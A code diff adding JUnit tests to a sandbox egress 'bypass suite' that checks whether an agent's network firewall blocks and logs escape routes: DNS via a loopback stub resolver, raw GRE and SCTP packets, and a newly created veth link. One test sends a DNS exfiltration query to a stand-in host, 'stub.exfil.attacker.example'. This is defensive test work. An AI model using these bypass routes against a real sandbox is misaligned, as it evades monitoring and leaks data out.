@@ -243,6 +243,95 @@ abstract class BypassSuite {
     }
 
     @Test
+    void dnsToALocalStubResolverOnLoopback() throws Exception {
+        // a stub like systemd-resolved's on 127.0.0.53 that forwards to the runner's resolver
+        Process stub = sandbox.processBuilder("socat", "UDP4-RECVFROM:53,bind=127.0.0.53,fork",
+                "UDP4-SENDTO:198.18.0.53:53").redirectErrorStream(true).start();
+        try {
+            awaitUdpListener("127.0.0.53:53", stub);
+            ExecResult r = runner("dig", "+time=2", "+tries=1", "@127.0.0.53", "stub.exfil.attacker.example");
+            outcome(r, printed("status: NXDOMAIN"));
+            ConnectionEvent e = flow("127.0.0.53", 53, "udp", "output", flowVerdict());
+            assertThat(e.reason()).isEqualTo("DNS to a resolver other than the agent");
+            assertThat(sandbox.queryLog().contains("stub.exfil.attacker.example")).as("the name reached the internet")
+                    .isEqualTo(!blocking());
+        } finally {
+            List<ProcessHandle> children = stub.toHandle().descendants().toList();
+            stub.destroyForcibly().waitFor();
+            children.forEach(ProcessHandle::destroyForcibly);
+        }
+    }
+
+    private void awaitUdpListener(String address, Process listener) throws Exception {
+        long deadline = System.nanoTime() + Duration.ofSeconds(5).toNanos();
+        while (!runner("ss", "-Hlun").stdout().contains(address + " ")) {
+            assertThat(listener.isAlive()).as("the listener on " + address + " runs").isTrue();
+            assertThat(System.nanoTime()).as("a listener on " + address + " within 5 s").isLessThan(deadline);
+            Thread.sleep(20);
+        }
+    }
+
+    @Test
+    void otherIpProtocols() throws Exception {
+        // GRE (47) and a well-formed SCTP INIT (132), from raw sockets: no rule lists them, the default decides
+        ExecResult gre = runner("bash", "-c", "echo gre | socat -u - IP4-SENDTO:198.18.66.6:47");
+        outcome(gre, r -> r.exitCode() == 0);
+        flow("198.18.66.6", 0, "47", "output", flowVerdict());
+        ExecResult sctp = runner("bash", "-c", "printf '" + sctpInit() + "' | socat -u - IP6-SENDTO:[fd52:7761:6c6c::66:6]:132");
+        outcome(sctp, r -> r.exitCode() == 0);
+        flow("fd52:7761:6c6c::66:6", 0, "132", "output", flowVerdict());
+        if (blocking()) {
+            assertThat(gre.stderr()).as(gre.describe()).contains("Operation not permitted");
+            assertThat(sctp.stderr()).as(sctp.describe()).contains("Operation not permitted");
+        }
+    }
+
+    /**
+     * An SCTP INIT chunk (RFC 9260 3.3.2) from port 40000 to 9999, as {@code printf} escapes. Conntrack
+     * tracks it as a new flow; a malformed one would be invalid, which block mode drops without logging.
+     */
+    private static String sctpInit() {
+        java.nio.ByteBuffer p = java.nio.ByteBuffer.allocate(32);
+        p.putShort((short) 40000).putShort((short) 9999).putInt(0).putInt(0); // ports, verification tag 0, checksum
+        p.put((byte) 1).put((byte) 0).putShort((short) 20); // INIT, flags, chunk length
+        p.putInt(0x11223344).putInt(65535).putShort((short) 1).putShort((short) 1).putInt(1); // tag, a_rwnd, streams, TSN
+        java.util.zip.CRC32C crc = new java.util.zip.CRC32C();
+        crc.update(p.array());
+        p.order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(8, (int) crc.getValue());
+        StringBuilder escaped = new StringBuilder();
+        for (byte b : p.array()) {
+            escaped.append(String.format("\\x%02x", b & 0xff));
+        }
+        return escaped.toString();
+    }
+
+    @Test
+    void anInterfaceCreatedAfterTheAgentStarted() throws Exception {
+        // a second link to the internet, made now: a veth whose far end is in the internet namespace
+        String internet = sandbox.internetNamespace();
+        runner("ip", "link", "add", "late0", "type", "veth", "peer", "name", "late1", "netns", internet).requireSuccess();
+        try {
+            runner("ip", "-n", internet, "addr", "add", "198.18.77.1/30", "dev", "late1").requireSuccess();
+            runner("ip", "-n", internet, "-6", "addr", "add", "fd52:7761:6c6c:77::1/64", "dev", "late1", "nodad")
+                    .requireSuccess();
+            runner("ip", "-n", internet, "link", "set", "late1", "up").requireSuccess();
+            runner("ip", "addr", "add", "198.18.77.2/30", "dev", "late0").requireSuccess();
+            runner("ip", "-6", "addr", "add", "fd52:7761:6c6c:77::2/64", "dev", "late0", "nodad").requireSuccess();
+            runner("ip", "link", "set", "late0", "up").requireSuccess();
+            assertThat(runner("ip", "route", "get", "198.18.77.1").requireSuccess().stdout()).contains("dev late0");
+            assertThat(runner("ip", "-6", "route", "get", "fd52:7761:6c6c:77::1").requireSuccess().stdout())
+                    .contains("dev late0");
+
+            outcome(runner("ping", "-c", "1", "-W", "2", "198.18.77.1"), r -> r.exitCode() == 0);
+            flow("198.18.77.1", 0, "icmp", "output", flowVerdict());
+            outcome(runner("ping", "-c", "1", "-W", "2", "fd52:7761:6c6c:77::1"), r -> r.exitCode() == 0);
+            flow("fd52:7761:6c6c:77::1", 0, "icmpv6", "output", flowVerdict());
+        } finally {
+            runner("ip", "link", "del", "late0"); // takes its peer with it
+        }
+    }
+
+    @Test
     void fromAContainer() throws Exception {
         ExecResult r = container.exec(Duration.ofSeconds(20), "curl", "-sS", "--max-time", "5", "http://198.18.66.6/");
         outcome(r, printed("exfil.attacker.example"));
